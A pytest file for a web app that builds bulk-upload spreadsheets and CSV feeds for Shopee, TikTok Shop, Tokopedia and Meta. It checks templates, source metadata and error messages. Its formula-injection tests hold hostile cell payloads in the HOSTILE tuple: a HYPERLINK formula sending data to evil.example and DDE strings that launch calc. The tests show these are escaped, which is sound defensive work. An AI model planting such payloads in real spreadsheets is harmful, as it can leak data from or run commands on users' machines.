"""The bulk-upload sheets: every format file under webapp/data/sheets loads, names only known
value functions, carries its sources, and a broken file names the file and the field; the sheets
in a built pack have the templates' columns, the right rows, and no cell that runs as a formula.
No app, no database."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import date

import openpyxl
import pytest
from PIL import Image

from tests.images import encode
from tests.packs.samples import build, csv_rows, hostile_product, make_pack, open_zip, sheet
from webapp.datafiles import DataError
from webapp.packs import sheets
from webapp.packs.builder import PackImage, PackInput
from webapp.packs.sheets import (
    FORMAT_MODULES,
    GENERIC,
    NAMED_NOTES,
    SHEETS_DIR,
    TEMPLATE_FORMATS,
    load_sheets,
    read_sheet,
    sheet_for,
)
from webapp.packs.sheets.common import FILLS, NUMBERED_FILLS
from webapp.text import say

HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "＝1+1")
SHOPEE_HEADERS = [
    "Kategori", "Nama Produk*", "Deskripsi Produk*", "Maks. Jumlah Pembelian",
    "Maks. Jumlah Pembelian - Tanggal Mulai", "Maks. Jumlah Pembelian - Jumlah Hari",
    "Maks. Jumlah Pembelian - Tanggal Berakhir", "Min. Jumlah Pembelian", "SKU Induk",
    "Produk Berbahaya", "Kode Integrasi Variasi", "Nama Variasi 1", "Varian untuk Variasi 1",
    "Foto Produk per Varian", "Nama Variasi 2", "Varian untuk Variasi 2", "Harga*", "Stok",
    "Kode Variasi", "Template Panduan Ukuran", "Foto Panduan Ukuran", "GTIN", "Foto Sampul*",
    *(f"Foto Produk {n}" for n in range(1, 9)), "Berat (gram)", "Panjang (cm)", "Lebar (cm)",
    "Tinggi (cm)", "Same Day", "Next Day", "Reguler (Cashless)", "Hemat Kargo", "Instant",
    "Instant Prioritas", "Dikirim Dalam Pre-order", "Alasan Gagal",
]
SHOPEE_KEYS = [  # the 2026 basic template's key row, in its order (reference notes S1, S2)
    "ps_category", "ps_product_name", "ps_product_description", "ps_maximum_purchase_quantity",
    "ps_maximum_purchase_quantity_start_date", "ps_maximum_purchase_quantity_time_period",
    "ps_maximum_purchase_quantity_end_date", "ps_minimum_purchase_quantity",
    "ps_sku_parent_short", "ps_dangerous_goods", "et_title_variation_integration_no",
    "et_title_variation_1", "et_title_option_for_variation_1", "et_title_image_per_variation",
    "et_title_variation_2", "et_title_option_for_variation_2", "ps_price", "ps_stock",
    "ps_sku_short", "ps_new_size_chart", "et_title_size_chart", "ps_gtin_code",
    "ps_item_cover_image", *(f"ps_item_image_{n}" for n in range(1, 9)), "ps_weight",
    "ps_length", "ps_width", "ps_height", "channel_id.8001", "channel_id.8002",
    "channel_id.8003", "channel_id.8005", "channel_id.8007", "channel_id.8008",
    "ps_product_pre_order_dts", "et_title_reason",
]
TIKTOK_HEADERS = [
    "Category", "Brand", "Product Name", "Product Description", "Main Product Image",
    *(f"Product Image {n}" for n in range(2, 10)), "Property Name 1", "Property Value 1",
    "Property 1 Image", "Property Name 2", "Property Value 2", "Parcel Weight (g)",
    "Parcel Length (cm)", "Parcel Width (cm)", "Parcel Height (cm)", "Delivery", "Price",
    "Pre-order Time", "Quantity", "Seller SKU", "Size Chart",
]
HELPERS = {"shopee": "shopee/shopee-lembar-bantu.xlsx",
           "tiktok_shop": "tiktok_shop/tiktok-shop-lembar-bantu.xlsx",
           "tokopedia": "tokopedia/tokopedia-lembar-bantu.xlsx"}


@pytest.fixture(scope="module")
def built() -> tuple[bytes, dict, PackInput]:
    """The realistic pack, built once for the read-only checks."""
    pack = make_pack()
    data, manifest = build(pack)
    return data, manifest, pack


def all_columns():
    """(format id, column) of every column of every sheet file."""
    return [(format_id, column) for format_id, sheet_format in load_sheets().items()
            for column in sheet_format.columns]


def known_fills(format_id: str) -> set[str]:
    """The value function names a format's file may use (numbered ones without their number)."""
    return {*FILLS, *FORMAT_MODULES[format_id].FILLS, *NUMBERED_FILLS, "fixed"}


def test_every_sheet_file_loads_and_every_format_has_one():
    assert {path.stem for path in SHEETS_DIR.glob("*.toml")} == set(FORMAT_MODULES)
    loaded = load_sheets()
    assert set(loaded) == set(FORMAT_MODULES)
    for format_id, sheet_format in loaded.items():
        assert sheet_format.columns, format_id
        assert bool(sheet_format.file) == (format_id in TEMPLATE_FORMATS)


def test_the_files_are_read_once(monkeypatch):
    reads = []
    real = sheets.read_toml
    monkeypatch.setattr(sheets, "read_toml", lambda path: reads.append(path) or real(path))
    load_sheets.cache_clear()
    try:
        first, second = load_sheets(), load_sheets()
        assert first is second
        assert sorted(path.name for path in reads) == sorted(f"{f}.toml" for f in FORMAT_MODULES)
    finally:
        load_sheets.cache_clear()


@pytest.mark.parametrize(("format_id", "column"), all_columns(),
                         ids=lambda v: v if isinstance(v, str) else v.header_in("id"))
def test_every_column_names_a_known_value_function(format_id, column):
    assert column.fill.partition(":")[0] in known_fills(format_id)
    assert callable(column.value)


def test_format_modules_do_not_shadow_the_common_value_functions():
    for module in FORMAT_MODULES.values():
        assert not set(module.FILLS) & (set(FILLS) | set(NUMBERED_FILLS) | {"fixed"})


@pytest.mark.parametrize("format_id", list(TEMPLATE_FORMATS))
def test_template_columns_carry_their_source(format_id):
    for column in load_sheets()[format_id].columns:
        source = column.source
        assert source is not None and re.match(r"https?://", source.url), column.header
        assert date.fromisoformat(source.checked)
        assert source.confidence in ("official", "third_party", "unverified")
        if not source.verified:  # the owner reads under the header that we named the column
            assert column.note_in("id") and column.note_in("en"), column.header
        if column.header.endswith("*"):  # the template's own mark of a required column
            assert column.required, column.header


@pytest.mark.parametrize("format_id", list(TEMPLATE_FORMATS))
def test_guides_and_notes_are_in_both_languages(format_id):
    sheet_format = load_sheets()[format_id]
    for language in ("id", "en"):
        lines = sheet_format.notes_for(language, linked=True)
        assert all(line.strip() for line in lines)
        assert sheet_format.file in "\n".join(lines)
    pairs = zip(sheet_format.notes_for("id"), sheet_format.notes_for("en"), strict=True)
    for indonesian, english in pairs:
        assert indonesian != english  # every line has its translation
    for key, message in NAMED_NOTES.items():
        assert say("en", message) != message, key


def test_channels_without_a_template_get_the_generic_table():
    assert sheet_for("instagram") is load_sheets()[GENERIC]
    assert sheet_for("facebook").file == "katalog-meta.xlsx"
    assert sheet_for("facebook").template is None
    # Tokopedia's guidance: one row per variant, the same name on each
    assert sheet_for("shopee").per_variant and sheet_for("tokopedia").per_variant
    assert not sheet_for("instagram").per_variant


def test_template_headers_are_never_translated_but_their_notes_are():
    shopee = sheet_for("shopee")
    indonesian, english = shopee.columns_for("id"), shopee.columns_for("en")
    assert [c.header for c in indonesian] == [c.header for c in english]
    notes = {c.header: (c.note, e.note) for c, e in zip(indonesian, english, strict=True)}
    assert notes["Nama Produk*"] == ("Wajib", "Required")
    assert notes["GTIN"] == ("", "")


def test_the_generic_table_follows_language_tag_style_and_photo_count():
    generic = sheet_for("etsy")
    tags = [c.header for c in generic.columns_for("en", hashtag_style="tags", photos=2)]
    assert "Tags" in tags and "Hashtags" not in tags
    assert tags[-2:] == ["Photo 1", "Photo 2"]
    hashtags = [c.header for c in generic.columns_for("id", photos=0)]
    assert "Tagar" in hashtags and "Tag" not in hashtags
    assert not any(header.startswith("Foto") for header in hashtags)


# --- broken files ---------------------------------------------------------------------------

SHOPEE = (SHEETS_DIR / "shopee.toml").read_text(encoding="utf-8")
TIKTOK = (SHEETS_DIR / "tiktok_shop.toml").read_text(encoding="utf-8")
BROKEN = [
    # (why, file name, the text it gets, what the message must name)
    ("unknown value function", "shopee.toml",
     SHOPEE.replace('fill = "title"', 'fill = "titel"'),
     r"shopee\.toml column 2 \(Nama Produk\*\)\.fill: unknown value function 'titel'"),
    ("another format's value function", "shopee.toml",
     SHOPEE.replace('fill = "title"', 'fill = "item_id"'), r"column 2 .*\.fill"),
    ("photo number out of range", "shopee.toml",
     SHOPEE.replace('fill = "photo:1"', 'fill = "photo:0"'), r"column 23 .*\.fill"),
    ("fixed value without fill fixed", "shopee.toml",
     SHOPEE.replace('fill = "title"', 'fill = "title"\nfixed = "x"'), r"column 2 .*\.fixed"),
    ("misspelt key", "shopee.toml",
     SHOPEE.replace("required = true", "requird = true", 1), r"column 2\.requird: unknown key"),
    ("named note nobody wrote", "shopee.toml",
     SHOPEE.replace('note = "required"', 'note = "mandatory"', 1), r"column 2 .*\.note"),
    ("note in one language only", "shopee.toml",
     SHOPEE.replace("note_en = \"Choose from your template's category list; some sources say "
                    "it may stay empty (Shopee suggests one), others ask for a category code\"\n",
                    ""), r"column 1 \(Kategori\)\.note_en"),
    ("no header", "shopee.toml", SHOPEE.replace('header = "GTIN"\n', ""), r"column 22\.header"),
    ("header twice", "shopee.toml", SHOPEE.replace('header = "GTIN"', 'header = "Stok"'),
     r"shopee\.toml\.columns: the header 'Stok' is used twice"),
    ("confidence", "tiktok_shop.toml",
     TIKTOK.replace('confidence = "unverified"', 'confidence = "maybe"', 1),
     r"tiktok_shop\.toml column 14 \(GTIN Type\)\.confidence"),
    ("checked date", "shopee.toml",
     SHOPEE.replace('checked = "2026-12-06"', 'checked = "06-12-2026"'),
     r"column 1 \(Kategori\)\.checked"),
    ("source not a URL", "shopee.toml",
     SHOPEE.replace('source = "https://github.com', 'source = "github.com'),
     r"column 1 \(Kategori\)\.source"),
    ("rows", "shopee.toml", SHOPEE.replace('rows = "variant"', 'rows = "sku"'),
     r"shopee\.toml\.rows"),
    ("file name", "shopee.toml",
     SHOPEE.replace('file = "shopee-lembar-bantu.xlsx"', 'file = "../x.xlsx"'),
     r"shopee\.toml\.file"),
    ("schema", "shopee.toml", SHOPEE.replace("schema = 1", "schema = 2"), r"shopee\.toml\.schema"),
    ("a note without English", "shopee.toml",
     SHOPEE.replace('en = "The weight unit is not certain: some copies of the template ask for '
                    'kg, others for grams. This sheet writes the parcel weight in grams; your '
                    'own template decides (see its Berat header)."\n', ""),
     r"shopee\.toml note 2\.en"),
    ("key twice", "shopee.toml", SHOPEE.replace('key = "ps_gtin_code"', 'key = "ps_stock"'),
     r"shopee\.toml\.columns: the key 'ps_stock' is used twice"),
    ("unit nobody converts", "shopee.toml", SHOPEE.replace('unit = "g"', 'unit = "ons"'),
     r"\(Berat \(gram\)\)\.unit"),
    ("a template unit without a unit", "shopee.toml",
     SHOPEE.replace('fill = "blank"\nnote = "fill_official"', 'fill = "blank"\n'
                    'unit_default = "kg"\nnote = "fill_official"', 1),
     r"column 4 \(Maks\. Jumlah Pembelian\)\.unit_default"),
    ("list words not a list", "shopee.toml",
     SHOPEE.replace('words = { no = ["No (ID)", "Tidak", "No"] }', 'words = { no = "Tidak" }'),
     r"\(Produk Berbahaya\)\.words\.no"),
    ("alias without its source", "tokopedia.toml",
     (SHEETS_DIR / "tokopedia.toml").read_text(encoding="utf-8").replace(
         'aliases = [{ key = "Error Message", source = "https://', 'aliases = [{ key = "Error '
         'Message", source = "ftp://'), r"column 1 \(Pesan Error\)\.aliases\[1\]\.source"),
    ("template keys", "shopee.toml", SHOPEE.replace('keys = "codes"', 'keys = "names"'),
     r"shopee\.toml\.template\.keys"),
    ("template category not a column", "shopee.toml",
     SHOPEE.replace('category = "ps_category"', 'category = "ps_kategori"'),
     r"shopee\.toml\.template\.category"),
    ("filled name", "shopee.toml",
     SHOPEE.replace('filled = "shopee-template-terisi.xlsx"', 'filled = "Terisi.XLSX"'),
     r"shopee\.toml\.template\.filled"),
    ("unknown template key", "shopee.toml",
     SHOPEE.replace('keys = "codes"', 'keys = "codes"\nrow = 1'), r"template\.row: unknown key"),
    ("not TOML", "shopee.toml", SHOPEE.replace('header = "GTIN"', 'header = GTIN'),
     r"shopee\.toml: not valid TOML"),
    ("no format module", "lazada.toml", SHOPEE, r"lazada\.toml: no sheet format is named"),
]


@pytest.mark.parametrize(("why", "name", "text", "message"), BROKEN, ids=[b[0] for b in BROKEN])
def test_a_broken_file_names_the_file_and_the_field(tmp_path, why, name, text, message):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match=message):
        read_sheet(path)


# --- sheets in a pack---------------------------------------------------------------------------

def test_template_formats_name_the_public_key_row_in_order():
    """Each column of a marketplace format names its system key; Shopee's follow the public
    basic template's key row, couriers and pre-order included."""
    assert [c.key for c in sheet_for("shopee").columns] == SHOPEE_KEYS
    for format_id in ("shopee", "tiktok_shop", "tokopedia"):
        sheet_format = sheet_for(format_id)
        assert sheet_format.template is not None and sheet_format.spec() is not None
        assert all(column.key for column in sheet_format.columns), format_id
        for column in sheet_format.columns:
            assert all(re.match(r"https?://", alias.source) for alias in column.aliases)
    tiktok = [c.key for c in sheet_for("tiktok_shop").columns]
    assert tiktok.index("gtin_code") == tiktok.index("image_9") + 2  # the T2 order, read only
    assert not sheet_for("tiktok_shop").columns[tiktok.index("gtin_type")].helper


def test_unverified_facts_are_said_in_plain_words():
    """Owner-facing notes never cite our reference files, sections or 'public exporters'."""
    for format_id in TEMPLATE_FORMATS:
        for language in ("id", "en"):
            text = "\n".join(load_sheets()[format_id].notes_for(language))
            assert "channels.md" not in text and "§" not in text, format_id
            assert "pengekspor" not in text and "exporter" not in text, format_id
    shopee = " ".join(sheet_for("shopee").notes_for("id"))
    assert "belum kami" in shopee and "gram" in shopee and "kg" in shopee
    tokopedia = " ".join(sheet_for("tokopedia").notes_for("id"))
    assert "9 Juni 2025" in tokopedia and "blog resmi Tokopedia" in tokopedia


def test_shopee_sheet_has_the_template_columns_and_one_row_per_variant(built):
    data, _, pack = built
    rows = list(sheet(data, HELPERS["shopee"]).iter_rows(values_only=True))
    assert list(rows[0]) == SHOPEE_HEADERS
    assert rows[1][1] == "Wajib"  # the note row
    data_rows = [dict(zip(SHOPEE_HEADERS, row, strict=True)) for row in rows[2:]]
    assert len(data_rows) == 4  # kain, two kemeja variants, the hostile product
    kain, size_m, size_l = data_rows[:3]
    lasem = pack.products[0]
    assert kain["Nama Produk*"] == lasem.copy["shopee"].title
    assert kain["Deskripsi Produk*"] == lasem.copy["shopee"].description
    assert kain["Harga*"] == 1_250_000 and kain["Stok"] == 3
    assert kain["SKU Induk"] == "BSL-LTH-001"
    # the parcel as shipped, never the product's own size (250 x 105.5 cm, 350 g)
    assert kain["Berat (gram)"] == 400
    assert (kain["Panjang (cm)"], kain["Lebar (cm)"], kain["Tinggi (cm)"]) == (30, 20, 4)
    assert size_m["Panjang (cm)"] is None  # no parcel size: all three left empty
    assert kain["Same Day"] is None and kain["Alasan Gagal"] is None  # chosen in the template
    assert kain["Produk Berbahaya"] is None  # a list word, only where the template lists it
    assert kain["Kategori"] is None  # the channel's own category, chosen from its template
    assert kain["Dikirim Dalam Pre-order"] == 30
    # no public links in this pack: the photo columns stay empty (a file name inside the pack
    # means nothing to an importer) and the checklist says where to add the photos
    assert kain["Foto Sampul*"] is None and kain["Foto Produk 1"] is None
    assert kain["Foto Produk 3"] is None
    assert kain["Kode Integrasi Variasi"] is None and kain["Nama Variasi 1"] is None
    assert size_m["Kode Integrasi Variasi"] == size_l["Kode Integrasi Variasi"] == "kemeja-sogan"
    assert (size_m["Nama Variasi 1"], size_m["Varian untuk Variasi 1"]) == ("Warna", "Coklat")
    assert (size_m["Nama Variasi 2"], size_m["Varian untuk Variasi 2"]) == ("Ukuran", "M")
    assert (size_m["Harga*"], size_m["Stok"], size_m["Kode Variasi"]) == (325_000, 5, "KMJ-M")
    # a variant without its own price takes the product's; stock 0 stays 0
    assert (size_l["Harga*"], size_l["Stok"], size_l["Kode Variasi"]) == (325_000, 0, "KMJ-L")
    assert size_l["Nama Produk*"] == size_m["Nama Produk*"]


TOKOPEDIA_HEADERS = [
    "Pesan Error", "Nama Produk*", "Deskripsi Produk", "Kategori Kode*", "Berat* (Gram)",
    "Minimum Pemesanan*", "Nomor Etalase", "Waktu Proses Preorder", "Kondisi*",
    "Foto Produk 1*", *(f"Foto Produk {n}" for n in range(2, 6)),
    *(f"URL Video Produk {n}" for n in range(1, 4)), "SKU Name", "Status*", "Jumlah Stok*",
    "Harga (Rp)*", "Kurir Pengiriman*", "Asuransi Pengiriman*",
]


def test_tokopedia_sheet_has_the_bulk_add_columns_and_one_row_per_product(built):
    """channels.md §3: the Tambah Produk Massal headers; the basic template has no variant
    columns, so a product with variants is one row."""
    data, _, pack = built
    rows = list(sheet(data, HELPERS["tokopedia"]).iter_rows(values_only=True))
    assert list(rows[0]) == TOKOPEDIA_HEADERS
    data_rows = [dict(zip(TOKOPEDIA_HEADERS, row, strict=True)) for row in rows[2:]]
    assert len(data_rows) == 4  # one row per variant, with the same name
    kain, size_m, size_l = data_rows[:3]
    assert size_m["Nama Produk*"] == size_l["Nama Produk*"]
    assert (size_m["SKU Name"], size_l["SKU Name"]) == ("KMJ-M", "KMJ-L")
    lasem = pack.products[0]
    assert kain["Nama Produk*"] == lasem.copy["tokopedia"].title
    assert kain["Deskripsi Produk"] == lasem.copy["tokopedia"].description
    assert (kain["Berat* (Gram)"], kain["Minimum Pemesanan*"], kain["Kondisi*"]) == (400, 1, "Baru")
    assert (kain["Harga (Rp)*"], kain["Jumlah Stok*"], kain["SKU Name"]) == (
        1_250_000, 3, "BSL-LTH-001")
    assert kain["Foto Produk 1*"] is None and kain["Foto Produk 2"] is None  # no public links
    assert kain["Kategori Kode*"] is None and kain["Status*"] == "Aktif"
    checklist = open_zip(data).read("tokopedia/PERIKSA.txt").decode()
    assert "LEMBAR BANTU TAMBAH PRODUK MASSAL: tokopedia-lembar-bantu.xlsx" in checklist
    assert "9 Juni 2025" in checklist  # the move to the integrated seller centre


META_HEADERS = ["id", "title", "description", "availability", "condition", "price", "link",
                "image_link", "additional_image_link", "brand", "item_group_id", "color", "size"]


def test_facebook_csv_is_a_meta_catalogue_feed(built):
    """channels.md §9: Meta's required feed fields by their official names, one row per variant
    tied by item_group_id, prices as "150000 IDR", the WhatsApp link when there is no site."""
    data, _, pack = built
    rows = csv_rows(data, "facebook/facebook.csv")
    assert rows[0] == META_HEADERS
    feed = [dict(zip(META_HEADERS, row, strict=True)) for row in rows[1:]]
    kain, size_m, size_l = feed[:3]
    lasem = pack.products[0]
    assert (kain["id"], kain["title"]) == ("BSL-LTH-001", lasem.copy["facebook"].title)
    assert kain["description"] == lasem.copy["facebook"].description
    assert (kain["availability"], kain["condition"], kain["price"]) == (
        "in stock", "new", "1250000 IDR")
    assert kain["link"] == "https://wa.me/6281234567890"
    assert kain["brand"] == 'Batik "Sekar" Lasem'
    assert kain["image_link"] == "" and kain["additional_image_link"] == ""  # no public links
    assert kain["item_group_id"] == ""
    assert (size_m["id"], size_m["price"], size_m["size"], size_m["color"]) == (
        "KMJ-M", "325000 IDR", "M", "Coklat")
    assert size_l["availability"] == "out of stock"
    assert size_m["item_group_id"] == size_l["item_group_id"] == "kemeja-sogan"
    assert len({row["id"] for row in feed}) == len(feed)
    checklist = open_zip(data).read("facebook/PERIKSA.txt").decode()
    assert "KATALOG META: facebook.csv" in checklist
    # without photo links the feed is not offered for upload: Meta would refuse every item
    assert "Jangan unggah facebook.csv dari paket ini" in checklist
    # the feed is not spreadsheet-escaped, so nobody is sent to open it in Excel
    assert "facebook.csv: umpan data untuk Commerce Manager, bukan untuk dibuka di Excel" in (
        checklist)
    assert "facebook.csv: semua produk dalam satu tabel" not in checklist
    assert "siap diunggah" not in checklist and "> unggah facebook.csv" not in checklist


def test_tiktok_sheet_has_the_batch_template_columns(built):
    data, _, pack = built
    rows = list(sheet(data, HELPERS["tiktok_shop"]).iter_rows(values_only=True))
    assert list(rows[0]) == TIKTOK_HEADERS
    kain = dict(zip(TIKTOK_HEADERS, rows[2], strict=True))
    lasem = pack.products[0]
    assert kain["Product Name"] == lasem.copy["tiktok_shop"].title
    assert kain["Product Description"] == lasem.copy["tiktok_shop"].description
    assert kain["Main Product Image"] is None and kain["Product Image 2"] is None
    assert kain["Brand"] is None
    assert (kain["Price"], kain["Quantity"], kain["Seller SKU"]) == (1_250_000, 3, "BSL-LTH-001")
    assert kain["Parcel Weight (g)"] == 400 and kain["Parcel Height (cm)"] == 4
    variant = dict(zip(TIKTOK_HEADERS, rows[3], strict=True))
    assert (variant["Property Name 1"], variant["Property Value 1"]) == ("Warna", "Coklat")
    assert (variant["Property Name 2"], variant["Property Value 2"]) == ("Ukuran", "M")
    assert variant["Seller SKU"] == "KMJ-M"
    notes = openpyxl.load_workbook(io.BytesIO(open_zip(data).read(
        HELPERS["tiktok_shop"])))["Catatan"]
    assert "belum kami cocokkan dengan file resmi" in " ".join(str(c.value) for c in notes["A"])


@pytest.mark.parametrize(("path", "kind"), [
    ("shopee/shopee.csv", "xlsx"), ("tiktok_shop/tiktok_shop.csv", "xlsx"),
    ("tokopedia/tokopedia.csv", "xlsx"), ("facebook/facebook.csv", "xlsx"),
    ("instagram/instagram.csv", "generic"), ("etsy/etsy.csv", "generic"),
    ("whatsapp/whatsapp.csv", "generic")])
def test_csv_is_utf8_with_bom_quoted_and_holds_the_sheet_data(built, path, kind):
    data, _, _ = built
    raw = open_zip(data).read(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    header = text.split("\r\n", 1)[0]
    assert re.fullmatch(r'"[^"]*"(,"[^"]*")*', header)
    rows = csv_rows(data, path)
    assert all(len(row) == len(rows[0]) for row in rows)
    if kind == "xlsx":
        xlsx = {"shopee/shopee.csv": HELPERS["shopee"],
                "tiktok_shop/tiktok_shop.csv": HELPERS["tiktok_shop"],
                "tokopedia/tokopedia.csv": HELPERS["tokopedia"],
                "facebook/facebook.csv": "facebook/katalog-meta.xlsx"}[path]
        cells = [["" if v is None else v for v in row]
                 for row in sheet(data, xlsx).iter_rows(values_only=True)]
        assert rows[0] == cells[0]
        assert len(rows) - 1 == len(cells) - 2  # the sheet has a note row
        for csv_row, cell_row in zip(rows[1:], cells[2:], strict=True):
            for field, cell in zip(csv_row, cell_row, strict=True):
                if isinstance(cell, str) and field.startswith("'") and not cell.startswith("'"):
                    field = field[1:]
                assert field == (str(cell) if not isinstance(cell, float) else f"{cell:g}")
    else:
        assert rows[1][0] == "kain-latohan-merah"
        assert not any("01-utama.jpg" in cell for cell in rows[1])  # no public links


def test_generic_csv_summarises_variants():
    data, _ = build(make_pack())
    rows = csv_rows(data, "etsy/etsy.csv")
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    kemeja = next(row for row in table if row["Kode produk"] == "kemeja-sogan")
    assert kemeja["Varian"].split("\n") == [
        "Coklat / M: stok 5, harga 325000, SKU KMJ-M",
        "Coklat / L: stok 0, harga 325000, SKU KMJ-L"]
    assert kemeja["Harga (Rp)"] == "325000"


# --- formula injection (security.md checklist 30) ----------------------------------------------

@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_can_run_as_a_formula(name):
    pack = make_pack(products=(hostile_product(name),), logo=False)
    data, _ = build(pack)
    archive = open_zip(data)
    for path, column in ((HELPERS["shopee"], "Nama Produk*"),
                         (HELPERS["tiktok_shop"], "Product Name")):
        book = openpyxl.load_workbook(io.BytesIO(archive.read(path)))
        cells = {c.value: c for c in book["Template"][1]}
        cell = book["Template"].cell(row=3, column=cells[column].column)
        category = book["Template"].cell(row=3, column=1)
        for target in (cell, category):
            expected = name.strip()
            assert target.value == expected  # the text reaches the marketplace unchanged
            assert target.data_type == "s" and target.quotePrefix
        inner = zipfile.ZipFile(io.BytesIO(archive.read(path)))
        assert not re.search(rb"<f[ >]", inner.read("xl/worksheets/sheet1.xml"))
    for path, column in (("shopee/shopee.csv", "Nama Produk*"),
                         ("tiktok_shop/tiktok_shop.csv", "Product Name"),
                         ("tokopedia/tokopedia.csv", "Nama Produk*"),
                         ("etsy/etsy.csv", "Nama produk"), ("etsy/etsy.csv", "Judul"),
                         ("instagram/instagram.csv", "Caption"),
                         ("whatsapp/whatsapp.csv", "Teks katalog WhatsApp")):
        rows = csv_rows(data, path)
        field = rows[1][rows[0].index(column)]
        assert field == "'" + name.strip(), (path, column)


def test_numbers_and_phone_numbers_are_not_mangled():
    products = (hostile_product("Kain Batik", sku="+62 812-3456-7890", stock=-3),
                hostile_product("Kain Tenun", slug="kain-tenun", sku="0812-3456-7890", stock=0),
                hostile_product("Kain Sutra", slug="kain-sutra", sku="-42", stock=2))
    data, _ = build(make_pack(products=products, logo=False))
    template = sheet(data, HELPERS["shopee"])
    header = [c.value for c in template[1]]
    sku, stock = header.index("SKU Induk") + 1, header.index("Stok") + 1
    negative = template.cell(row=3, column=stock)
    assert negative.value == -3 and negative.data_type == "n" and not negative.quotePrefix
    phone = template.cell(row=3, column=sku)
    assert phone.value == "+62 812-3456-7890" and phone.data_type == "s"
    local = template.cell(row=4, column=sku)
    assert local.value == "0812-3456-7890" and not local.quotePrefix
    assert template.cell(row=4, column=stock).value == 0
    assert template.cell(row=5, column=sku).value == "-42"
    rows = csv_rows(data, "shopee/shopee.csv")
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [row["Stok"] for row in table] == ["-3", "0", "2"]
    # a phone number with spaces would be arithmetic in a spreadsheet: escaped; plain numbers
    # and local numbers are left as they are
    assert [row["SKU Induk"] for row in table] == ["'+62 812-3456-7890", "0812-3456-7890", "-42"]


def test_cells_keep_non_latin_text_and_drop_control_characters():
    product = hostile_product("Батик 批发 🌺\x00\x0b Kain", sku="SKU\x07-1")
    data, _ = build(make_pack(products=(product,), logo=False))
    template = sheet(data, HELPERS["shopee"])
    assert template.cell(row=3, column=2).value == "Батик 批发 🌺 Kain"
    rows = csv_rows(data, "shopee/shopee.csv")
    assert rows[1][1] == "Батик 批发 🌺 Kain" and rows[1][8] == "SKU-1"


def test_linked_photos_fill_the_sheets_and_the_checklist_says_so():
    product = hostile_product()
    links = tuple(PackImage(slot, encode(Image.new("RGB", (8, 8)), "JPEG"), "jpg", 8, 8,
                            url=f"https://studio.example/p/{slot}.jpg") for slot in (1, 2))
    product = replace(product, images={"shopee": links})
    data, _ = build(make_pack(products=(product,), logo=False))
    rows = csv_rows(data, "shopee/shopee.csv")
    table = dict(zip(rows[0], rows[1], strict=True))
    assert table["Foto Sampul*"] == "https://studio.example/p/1.jpg"
    assert table["Foto Produk 1"] == "https://studio.example/p/2.jpg"
    lines = open_zip(data).read("shopee/PERIKSA.txt").decode().split("\n")
    heading = lines.index("LEMBAR BANTU UNGGAH MASSAL: shopee-lembar-bantu.xlsx")
    assert lines[heading + 1].startswith("FOTO SUDAH BERUPA TAUTAN")
    assert not any("TAUTAN" in line for line in
                   open_zip(data).read("tiktok_shop/PERIKSA.txt").decode().split("\n"))


def test_the_meta_feed_is_offered_for_upload_only_with_photo_links():
    product = hostile_product()
    links = tuple(PackImage(slot, encode(Image.new("RGB", (8, 8)), "JPEG"), "jpg", 8, 8,
                            url=f"https://studio.example/p/{slot}.jpg") for slot in (1, 2))
    data, _ = build(make_pack(products=(replace(product, images={"facebook": links}),),
                              logo=False))
    feed = csv_rows(data, "facebook/facebook.csv")
    assert dict(zip(feed[0], feed[1], strict=True))["image_link"] == (
        "https://studio.example/p/1.jpg")
    checklist = open_zip(data).read("facebook/PERIKSA.txt").decode()
    assert "umpan data katalog Meta, siap diunggah" in checklist
    assert "> unggah facebook.csv" in checklist and "Jangan unggah" not in checklist
